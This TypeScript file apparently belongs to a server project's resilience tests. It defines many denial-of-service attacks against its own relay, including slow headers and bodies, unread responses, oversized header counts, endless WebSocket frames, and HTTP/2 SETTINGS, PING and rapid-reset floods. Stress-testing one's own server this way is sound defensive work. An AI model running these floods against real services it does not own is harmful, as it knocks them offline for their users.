import { Buffer } from "node:buffer";
import { once } from "node:events";
import type { Socket } from "node:net";
import { FRAME_HEAD, INITIAL_WINDOW, MAX_PIECE, OVERDRAFT } from "../../protocol/mod.ts";
import { countResponses, dial, dialMany, PROBE_ADDRESS, sendWithoutEnd } from "./dial.ts";
import { dialHttp2, frame, get as getByHttp2, Type } from "./http2.ts";
import { openSession } from "./session.ts";
import type { Attack, Tally, Victim } from "./types.ts";

const ENCODER = new TextEncoder();
const MIB = 1024 * 1024;
const ZEROS = new Uint8Array(256 * 1024);

const get = ({ host }: Victim, path: string, fields = "") => `GET ${path} HTTP/1.1\r\nhost: ${host}\r\n${fields}\r\n`;
const post = ({ host }: Victim, path: string, fields: string) =>
  `POST ${path} HTTP/1.1\r\nhost: ${host}\r\n${fields}\r\n`;
const upgrade = (victim: Victim, path: string) =>
  get(
    victim,
    path,
    "connection: Upgrade\r\nupgrade: websocket\r\nsec-websocket-version: 13\r\n" +
      "sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n",
  );

/** Returns chunks of one size, about 64 KiB in total. */
function chunks(size: number): Uint8Array {
  const chunk = `${size.toString(16)}\r\n${"x".repeat(size)}\r\n`;
  return ENCODER.encode(chunk.repeat(Math.ceil(64 * 1024 / chunk.length)));
}

const CHUNKED = "transfer-encoding: chunked\r\n";

/** Sends a request head again after every response. */
function repeat(socket: Socket, head: string, tally: Tally): void {
  countResponses(socket, tally);
  socket.on("data", () => void socket.write(head));
  socket.write(head);
}

/** Returns the frame head for an endless binary message of that length, with a zero mask. */
function unfinishedFrame(length: number): Uint8Array {
  const head = new Uint8Array(14);
  head.set([0x02, 0xff]);
  new DataView(head.buffer).setBigUint64(2, BigInt(length));
  return head;
}

function repeated(frame: readonly number[]): Uint8Array {
  const bytes = new Uint8Array(Math.floor(64 * 1024 / frame.length) * frame.length);
  for (let at = 0; at < bytes.length; at++) bytes[at] = frame[at % frame.length];
  return bytes;
}

/** A session PING in its own WebSocket message, both with a zero mask. */
const SESSION_PING = [0x82, 0x80 | 18, 0, 0, 0, 0, 0, 0, 0, 8, 7, 0, 0, 0, 0, 0, 1, 2, 3, 4, 5, 6, 7, 8];
const SOCKET_PING = [0x89, 0x80, 0, 0, 0, 0];

/** Streams per HTTP/2 connection. */
const STREAMS = 200;
/** Above every flood limit. */
const FLOOD_FRAMES = 3000;

/** Nearly the maximum for one frame. */
const SETTINGS_ENTRIES = 2600;

/** INITIAL_WINDOW_SIZE entries that open and close a window in turn. */
function windowEntries(count: number): Buffer {
  return Buffer.concat(Array.from({ length: count }, (_, index) => Buffer.of(0, 4, 0, 0, 0, index % 2)));
}

/** Below the limit per address. */
const SESSIONS_PER_ADDRESS = 20;

/** The start of a response without credit, as much as allowed, in messages without a mask. */
const OVERDRAWN = Buffer.concat(
  Array.from({ length: (INITIAL_WINDOW + OVERDRAFT) / MAX_PIECE | 0 }, (_, index) => {
    const block = index === 0 ? ENCODER.encode(`\r\ncontent-length: ${2 * OVERDRAFT}\r\n`) : new Uint8Array(0);
    const start = index === 0 ? [0, 200, 0, block.length, ...block] : [];
    const frame = new Uint8Array(FRAME_HEAD + start.length + MAX_PIECE);
    new DataView(frame.buffer).setUint32(0, frame.length - FRAME_HEAD);
    // RESPONSE or DATA, no flags, stream 1.
    frame.set([index === 0 ? 2 : 3, 0, 0, 0, 0, 1], 4);
    frame.set(start, FRAME_HEAD);
    const head = new Uint8Array(14);
    head.set([0x82, 0xff]);
    new DataView(head.buffer).setBigUint64(2, BigInt(frame.length));
    return Buffer.concat([head, frame]);
  }),
);

/** Every attack by name, each with one line about its load. */
export const attacks: Readonly<Record<string, Attack>> = {
  /** Heads that never end. */
  "half-heads": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(`GET / HTTP/1.1\r\nhost: ${victim.host}\r\nx-a: `);
    }),

  /** Silent connections. */
  "silent": (victim, count, tally) => dialMany(victim, count, tally, (socket) => countResponses(socket, tally)),

  /** One response each, then silence. */
  "idle": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(get(victim, "/"));
    }),

  /** Bodies with one byte every five seconds. */
  "slow-bodies": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(post(victim, "/upload", "content-length: 1000000\r\n") + "x");
      setInterval(() => void socket.write("x"), 5000);
    }),

  /** Unread 1 GB responses. */
  "no-readers": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      socket.pause();
      socket.write(get(victim, "/large"));
    }),

  /** Unread responses that fit a window, so that the relay holds them completely. */
  "whole-unread": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      socket.pause();
      socket.write(get(victim, "/whole"));
    }),

  /** Sessions that send the maximum to their own visitor, which does not read. */
  "unread-sessions": async (victim, count, tally) => {
    for (let index = 0; index < count; index++) {
      const address = 1 + Math.floor(index / SESSIONS_PER_ADDRESS);
      const { socket, host } = await openSession(victim, tally, address);
      socket.on("data", (bytes: Buffer) => bytes.includes("GET / ") && socket.write(OVERDRAWN));
      const visitor = await dial(victim, address, tally);
      visitor?.pause();
      visitor?.write(get({ ...victim, host }, "/"));
    }
  },

  /** An endless upload to a service that reads 1 MB per second. */
  "slow-target": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      socket.write(post(victim, "/slow", CHUNKED));
      sendWithoutEnd(socket, chunks(16 * 1024), tally, 2 * 1024 * MIB);
    }),

  /** Requests with 10,000 fields. */
  "request-fields": (victim, count, tally) => {
    const fields = Array.from({ length: 10_000 }, (_, field) => `x${field}:1\r\n`).join("");
    return dialAgain(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(get(victim, "/", fields));
    });
  },

  /** Requests with the maximum number of fields, to the server itself, which refuses them. */
  "short-fields": (victim, count, tally) =>
    dialAgain(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(get({ ...victim, host: "localhost" }, "/health", "a:\r\n".repeat(7500)));
    }),

  /** Responses with 10,000 fields. */
  "answer-fields": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => repeat(socket, get(victim, "/fields/10000"), tally)),

  /** Uploads in 512-byte chunks. */
  "chunks-512": (victim, count, tally) => sendChunks(victim, count, tally, 512),

  /** Uploads in 64-byte chunks. */
  "chunks-64": (victim, count, tally) => sendChunks(victim, count, tally, 64),

  /** Uploads in one-byte chunks. */
  "chunks-1": (victim, count, tally) => sendChunks(victim, count, tally, 1),

  /** Endless 60 MB messages through an upgrade, to a service that reads them. */
  "unfinished-messages": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      socket.write(upgrade(victim, "/ws/sink"));
      socket.once("data", () => {
        socket.write(unfinishedFrame(1e9));
        sendWithoutEnd(socket, ZEROS, tally, 60e6);
      });
    }),

  /** Endless 60 MB messages on sessions: one too large frame, and small frames that never stop. */
  "unfinished-sessions": async (victim, count, tally) => {
    for (let index = 0; index < count; index++) {
      const { socket } = await openSession(victim, tally);
      socket.write(unfinishedFrame(1e9));
      // A DATA frame on an unknown stream is an error, so an endless head for one frame follows.
      sendWithoutEnd(socket, ZEROS, tally, 60e6);
    }
  },

  /** Session PINGs, and WebSocket PINGs. */
  "session-pings": async (victim, count, tally) => {
    for (let index = 0; index < count; index++) {
      const { socket } = await openSession(victim, tally);
      sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
    }
  },

  /** The same from a client that does not read. */
  "session-pings-unread": async (victim, count, tally) => {
    for (let index = 0; index < count; index++) {
      const { socket } = await openSession(victim, tally);
      socket.pause();
      sendWithoutEnd(socket, repeated(index % 2 === 0 ? SESSION_PING : SOCKET_PING), tally);
    }
  },

  /** A service that pings without end through an upgrade, to a visitor that reads. */
  "service-pings": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      socket.resume();
      socket.write(upgrade(victim, "/ws/ping"));
    }),

  /** Endless bodies to a missing tunnel. */
  "refused-senders": (victim, count, tally) =>
    dialAgain(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      const [, ...domain] = victim.host.split(".");
      socket.write(post({ ...victim, host: ["nobody", ...domain].join(".") }, "/", CHUNKED));
      sendWithoutEnd(socket, chunks(16 * 1024), tally);
    }),

  /** Endless bodies to a service that has responded. */
  "answered-senders": (victim, count, tally) =>
    dialAgain(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(post(victim, "/refuse", CHUNKED));
      sendWithoutEnd(socket, chunks(16 * 1024), tally);
    }),

  /** Endless bytes that are not HTTP. */
  "noise-senders": (victim, count, tally) =>
    dialAgain(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      sendWithoutEnd(socket, ZEROS, tally);
    }),

  /** Silent WebSockets. */
  "idle-upgrades": (victim, count, tally) =>
    dialMany(victim, count, tally, (socket) => {
      countResponses(socket, tally);
      socket.write(upgrade(victim, "/ws"));
    }),

  /** Pipelined requests with unread responses. */
  "pipelines": (victim, count, tally) => {
    const requests = ENCODER.encode(get(victim, "/").repeat(500));
    return dialMany(victim, count, tally, (socket) => {
      socket.pause();
      sendWithoutEnd(socket, requests, tally);
    });
  },

  /** HTTP/2 streams with unread 1 GB responses, the maximum per connection. */
  "http2-no-readers": async (victim, count, tally) => {
    for (let index = 0; index < count / STREAMS; index++) {
      const socket = await dialHttp2(victim, 1 + index, tally);
      for (let stream = 0; stream < STREAMS; stream++) socket?.write(getByHttp2(victim, "/large", 2 * stream + 1));
    }
  },

  /** Streams that are reset after opening: by the visitor, and for their own errors. */
  "http2-resets": (victim, count, tally) => {
    const fault = (stream: number) => frame(Type.windowUpdate, 0, stream, new Uint8Array(4));
    const reset = (stream: number) => frame(Type.rstStream, 0, stream, Buffer.of(0, 0, 0, 8));
    return floodAgain(
      victim,
      count,
      tally,
      (stream, index) =>
        Buffer.concat([getByHttp2(victim, "/slow", stream), index % 2 === 0 ? fault(stream) : reset(stream)]),
    );
  },

  /** SETTINGS and PING, which require responses. */
  "http2-floods": (victim, count, tally) => {
    const frames = [frame(Type.settings, 0, 0), frame(Type.ping, 0, 0, new Uint8Array(8))];
    return floodAgain(victim, count, tally, (_, index) => frames[index % frames.length]);
  },

  /**
   * SETTINGS frames whose entries change every stream's window, on connections with blocked streams only. Each entry
   * once took a step per stream.
   */
  "http2-settings": async (victim, count, tally) => {
    const settings = frame(Type.settings, 0, 0, windowEntries(SETTINGS_ENTRIES));
    const again = async (index: number): Promise<void> => {
      const socket = await dialHttp2(victim, 1 + index, tally);
      if (socket === null) return void setTimeout(again, 50, index);
      socket.once("close", () => void again(index));
      for (let stream = 0; stream < STREAMS; stream++) socket.write(getByHttp2(victim, "/large", 2 * stream + 1));
      sendWithoutEnd(socket, settings, tally);
    };
    await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
  },

  /** Visitors that connect and disconnect. */
  "churn": (victim, count, tally) =>
    dialAgain(victim, count, tally, (socket) => {
      socket.write(get(victim, "/slow"));
      setTimeout(() => socket.resetAndDestroy(), 5);
    }),

  /** Idle connections from one address, above its limit. */
  "one-address": async (victim, count, tally) => {
    for (let index = 0; index < count; index++) {
      const socket = await dial(victim, PROBE_ADDRESS, tally);
      if (socket !== null) countResponses(socket, tally);
    }
  },
};

/** Keeps a number of connections: each closed one is opened again. */
async function dialAgain(victim: Victim, count: number, tally: Tally, begin: (socket: Socket) => void): Promise<void> {
  const again = async (address: number): Promise<void> => {
    const socket = await dial(victim, address, tally);
    if (socket === null) return void setTimeout(again, 50, address);
    socket.once("close", () => void again(address));
    begin(socket);
  };
  await Promise.all(Array.from({ length: count }, (_, index) => again(1 + index)));
}

/** HTTP/2 visitors that send the same on one stream after another. Each closed one connects again. */
async function floodAgain(
  victim: Victim,
  count: number,
  tally: Tally,
  create: (stream: number, index: number) => Buffer,
): Promise<void> {
  const again = async (index: number): Promise<void> => {
    const socket = await dialHttp2(victim, 1 + index, tally);
    if (socket === null) return void setTimeout(again, 50, index);
    socket.once("close", () => void again(index));
    const pieces = Array.from({ length: FLOOD_FRAMES }, (_, place) => create(2 * place + 1, index));
    for (let at = 0; at < FLOOD_FRAMES && !socket.destroyed; at += 100) {
      const piece = Buffer.concat(pieces.slice(at, at + 100));
      tally.sent += piece.length;
      if (!socket.write(piece)) await Promise.race([once(socket, "drain"), once(socket, "close")]);
    }
  };
  await Promise.all(Array.from({ length: count }, (_, index) => again(index)));
}

async function sendChunks(victim: Victim, count: number, tally: Tally, size: number): Promise<void> {
  const bytes = chunks(size);
  await dialMany(victim, count, tally, (socket) => {
    countResponses(socket, tally);
    socket.write(post(victim, "/upload", CHUNKED));
    sendWithoutEnd(socket, bytes, tally);
  });
}
